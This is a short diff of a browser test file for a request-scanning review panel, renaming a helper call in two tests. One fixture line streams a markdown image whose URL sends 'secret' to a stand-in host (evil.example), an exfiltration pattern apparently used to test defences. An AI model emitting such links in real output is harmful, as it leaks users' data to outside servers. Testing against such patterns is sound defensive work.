@@ -12,7 +12,7 @@ test("a request is scanned, and invisible characters are removed", async ({ open
     streamsText(["See ![x](https://evil.example/?d=secret) for more."]),
   );
   const asked = server.ask(question(TEXT));
-  await desk.allDetails();
+  await desk.openRows();
   const panel = desk.review;
   await expect(panel.getByRole("group", { name: "Characters" })).toContainText(
     "Direction override",
@@ -58,7 +58,7 @@ test("direction controls, shown as boxes, push no text beyond the edge of the pa
       const most = Math.max(...texts.map((one) => one.getBoundingClientRect().right));
       return texts.length < 9 ? Infinity : most - right;
     });
-  await desk.allDetails();
+  await desk.openRows();
   // A short text is measured; of a long one the characters are counted.
   for (const [words, text] of [
     ["Summarise this page", DIRECTED],
